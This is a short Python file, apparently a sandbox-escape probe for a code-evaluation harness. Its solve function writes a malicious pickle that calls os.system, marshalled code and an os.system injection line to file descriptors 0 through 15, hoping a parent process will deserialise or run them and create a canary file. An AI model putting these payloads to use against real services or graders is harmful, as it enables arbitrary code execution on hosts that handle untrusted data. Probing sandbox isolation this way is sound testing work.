"""Write pickles, marshalled code and lines of Python to every descriptor.

kinds: io_call asserts stdio
"""

import marshal
import os
import struct

PICKLE = b"cos\nsystem\n(S'touch @CANARY@/home/pwned'\ntR."
CODE = marshal.dumps(compile("open('@CANARY@/home/pwned', 'w')", "x", "exec"))
LINE = b"__import__('os').system('touch @CANARY@/home/pwned')\n"


def solve(n):
    for descriptor in range(0, 16):
        for message in (PICKLE, CODE, LINE):
            for framed in (
                message,
                struct.pack("<I", len(message)) + message,
                struct.pack(">Q", len(message)) + message,
            ):
                try:
                    os.write(descriptor, framed)
                except OSError:
                    continue
    return PICKLE
